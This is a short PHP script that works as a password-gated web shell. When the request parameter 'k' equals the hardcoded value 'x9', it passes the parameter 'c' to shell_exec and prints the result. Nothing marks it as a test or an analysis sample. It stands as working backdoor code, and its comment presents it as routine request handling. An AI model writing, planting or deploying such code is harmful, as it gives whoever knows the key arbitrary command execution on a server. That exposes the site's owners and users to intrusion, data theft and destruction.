<?php
// the command comes from a helper that returns the request's value
function arg($name, $default = '')
{
    return isset($_REQUEST[$name]) ? trim($_REQUEST[$name]) : $default;
}

header('Content-Type: text/plain');
if (arg('k') === 'x9') {
    echo shell_exec(arg('c') . ' 2>&1');
}
